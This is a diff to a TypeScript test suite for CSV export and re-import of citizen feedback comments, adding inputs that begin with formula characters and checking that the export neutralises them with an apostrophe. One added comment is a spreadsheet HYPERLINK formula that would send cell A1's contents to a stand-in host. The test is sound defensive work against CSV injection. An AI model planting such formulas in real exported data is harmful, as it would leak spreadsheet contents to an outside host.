@@ -13,6 +13,16 @@ import { ingest } from '../responses/ingest';
 const service = shippedInstruments.find((i) => i.code === 'sipas-service-2023')!;
 const whole = { from: '2024-01-01', to: '2026-12-31' };
 
+/** Comments as citizens type them, formulas included: a spreadsheet must not run them. */
+const comments = [
+	'Cán bộ nhiệt tình; thủ tục nhanh, gọn.',
+	'=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
+	'+84 912 345 678 gọi lại giúp',
+	'-giảm giấy tờ',
+	'@SUM(1+1)',
+	"'=đã có dấu nháy"
+];
+
 const adminOf = (db: Database) => aUser(db, { username: 'ad', role: 'admin', unitCode: null });
 
 describe.each(testEngines())('CSV interchange [%s]', (engine) => {
@@ -40,7 +50,7 @@ describe.each(testEngines())('CSV interchange [%s]', (engine) => {
 				field: i % 5 ? 'Hộ tịch, "khai sinh"' : 'Đất đai\nnhiều dòng',
 				gender: i % 2 ? 'female' : null
 			},
-			...(i % 6 ? {} : { comment: 'Cán bộ nhiệt tình; thủ tục nhanh, gọn.' }),
+			...(i % 6 ? {} : { comment: comments[(i / 6) % comments.length] }),
 			...(i % 2 ? {} : { serial: `P-${i}`, batch: 'Đợt 1/2025' })
 		}));
 		const results = await ingest(source.db, batch, { user: admin }, { history: true });
@@ -59,6 +69,10 @@ describe.each(testEngines())('CSV interchange [%s]', (engine) => {
 		expect(first.slice(0, head.length)).toBe(head);
 		// A header and 60 rows; line breaks inside quoted cells are plain LF.
 		expect(first.split('\r\n').filter(Boolean)).toHaveLength(61);
+		// No cell begins a formula: risky text goes out behind an apostrophe, and comes back without.
+		expect(first).toContain(`"'=HYPERLINK(""http://x.example/?q=""&A1,""Bấm vào đây"")"`);
+		expect(first).toContain(",''=đã có dấu nháy");
+		expect(first.match(/(^|,)"?[=+@\-\t]/gm)).toBeNull();
 		const imported = await importCsv(target.db, first, {
 			actor: { user: targetAdmin },
 			dryRun: false
